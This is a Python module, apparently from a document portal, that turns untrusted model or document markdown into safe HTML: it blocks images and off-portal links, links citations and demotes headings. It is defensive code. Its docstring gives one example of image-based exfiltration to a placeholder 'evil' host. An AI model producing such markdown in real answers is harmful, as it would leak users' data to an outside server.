"""Markdown written by a model or found in a document, as HTML that is safe to put in a portal page.

markdown-it-py renders (CommonMark, raw HTML off: a ``<script>`` in the text is shown as text); DocIntel's rules
then decide what may stay live, and nh3 (ammonia) cleans the result against an allow-list of tags, attributes and URL
schemes, a second wall should a rule or the renderer let something through. The rules are the chat page's:

- images are never loaded: an image in an answer could carry data to another server (``![x](https://evil/?q=...)``
  is fetched by the browser without a click), so it becomes the visible text ``[image blocked: alt url]``;
- a link stays live only when it points into the portal (a path such as ``/documents/1/source/``); any other link
  keeps its text and shows where it pointed: ``text (link blocked: https://...)``;
- citation markers ``[n]`` become links to the cited source view when the citation is known and in the portal;
- headings are demoted by two levels (``#`` is ``<h3>``) so that an answer never outranks the page's own headings.

:func:`guards.sanitize.sanitize_output` is a different step and stays: it removes images, links, tags and bare URLs
from the answer's *plain text* before it leaves the server, on a stream, with hold-back, for every client (the
portal, the API, the WebSocket); this module renders the text that arrives to HTML for a page.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from html import escape
from typing import Any

# What the rendered HTML may contain at all; anything else is removed by nh3 (its text kept).
ALLOWED_TAGS = frozenset(
    {"p", "br", "strong", "em", "code", "pre", "ul", "ol", "li", "blockquote", "h3", "h4", "h5", "h6", "a", "span"}
)
# "class" is not listed: nh3 takes classes from ALLOWED_CLASSES only (and refuses both at once)
ALLOWED_ATTRIBUTES: dict[str, set[str]] = {"a": {"href", "title"}}
ALLOWED_CLASSES: dict[str, set[str]] = {"a": {"ref"}, "span": {"blocked"}}
# No absolute URL survives (no scheme is allowed); relative ones pass the attribute filter only as portal paths.
URL_SCHEMES: frozenset[str] = frozenset()

_CITATION = re.compile(r"\[(\d{1,3})\]")
# A path into the portal: one leading slash, then no second slash or backslash right after it (``//host`` and
# ``/\host`` are other hosts to a browser), and no whitespace or control characters anywhere.
_PORTAL_PATH = re.compile(r"^/(?![/\\])[^\s\x00-\x1f\x7f\\]*$")


def portal_path(href: str) -> bool:
    """Whether ``href`` is a path within the portal (same origin by construction), the only live link target.

    Args:
        href: a link target as written.

    Returns:
        True for ``/documents/1/source/?chunk=2#p``; False for absolute, protocol-relative, backslash or scheme URLs.
    """
    return bool(_PORTAL_PATH.match(href))


def _attribute_filter(tag: str, attribute: str, value: str) -> str | None:
    """nh3's last word on each attribute: an ``href`` that is not a portal path goes (the link stays as text)."""
    if attribute == "href" and not portal_path(value):
        return None
    return value


def _renderer() -> Any:
    from markdown_it import MarkdownIt

    # breaks: a single newline inside a paragraph is a <br>, as the chat page showed answers before (models write
    # one sentence per line more often than they write paragraphs)
    return MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False, "breaks": True})


def _citation_tokens(token: Any, citations: Mapping[int, str], token_class: Any) -> list[Any]:
    """Split a text token at its ``[n]`` markers: a known, in-portal citation becomes a link to its source view."""
    out: list[Any] = []
    last = 0
    for match in _CITATION.finditer(token.content):
        href = citations.get(int(match.group(1)))
        if href is None or not portal_path(href):
            continue
        if match.start() > last:
            out.append(token_class("text", "", 0, content=token.content[last : match.start()]))
        out.append(token_class("link_open", "a", 1, attrs={"href": href, "class": "ref"}))
        out.append(token_class("text", "", 0, content=match.group(0)))
        out.append(token_class("link_close", "a", -1))
        last = match.end()
    if not out:
        return [token]
    if last < len(token.content):
        out.append(token_class("text", "", 0, content=token.content[last:]))
    return out


def markdown_html(
    text: str,
    *,
    citations: Mapping[int, str] | Sequence[Mapping[str, Any]] = (),
    image_label: str = "image blocked",
    link_label: str = "link blocked",
) -> str:
    """Render markdown from a model or a document to HTML that is safe in a portal page.

    Args:
        text: the markdown (an answer, a passage); untrusted.
        citations: the answer's citations, as ``{number: url}`` or as the API's citation dicts (``number``, ``url``);
            a ``[n]`` marker links to ``url`` when it is a portal path.
        image_label: the visible word for a blocked image (translated by the caller).
        link_label: the visible word for a blocked link (translated by the caller).

    Returns:
        HTML with only :data:`ALLOWED_TAGS`, live links only into the portal, no image, no script, no event handler.
    """
    import nh3
    from markdown_it.token import Token

    if not isinstance(citations, Mapping):
        citations = {int(c["number"]): str(c.get("url") or "") for c in citations if "number" in c}
    md = _renderer()
    tokens = md.parse(text)
    for block in tokens:
        if block.type in ("heading_open", "heading_close"):
            block.tag = f"h{min(6, int(block.tag[1]) + 2)}"
        if block.type != "inline" or not block.children:
            continue
        children: list[Token] = []
        inside_blocked_link: list[str] = []  # the hrefs of the blocked links we are inside of
        in_link = 0
        for child in block.children:
            if child.type == "link_open":
                href = str(child.attrGet("href") or "")
                if portal_path(href):
                    in_link += 1
                    children.append(child)
                else:
                    inside_blocked_link.append(href)
                    children.append(Token("html_inline", "", 0, content='<span class="blocked">'))
            elif child.type == "link_close":
                if inside_blocked_link and in_link == 0:
                    href = inside_blocked_link.pop()
                    note = f" ({link_label}: {href})"
                    children.append(Token("html_inline", "", 0, content=f"{escape(note)}</span>"))
                else:
                    in_link -= 1
                    children.append(child)
            elif child.type == "image":  # never fetched: shown as inert text
                note = f"[{image_label}: {child.content} {child.attrGet('src') or ''}]"
                children.append(Token("html_inline", "", 0, content=f'<span class="blocked">{escape(note)}</span>'))
            elif child.type == "text" and not in_link and not inside_blocked_link:
                children.extend(_citation_tokens(child, citations, Token))
            else:
                children.append(child)
        block.children = children
    html = str(md.renderer.render(tokens, md.options, {}))
    return nh3.clean(
        html,
        tags=set(ALLOWED_TAGS),
        attributes=ALLOWED_ATTRIBUTES,
        attribute_filter=_attribute_filter,
        allowed_classes=ALLOWED_CLASSES,
        url_schemes=set(URL_SCHEMES),
        link_rel=None,
        strip_comments=True,
    )
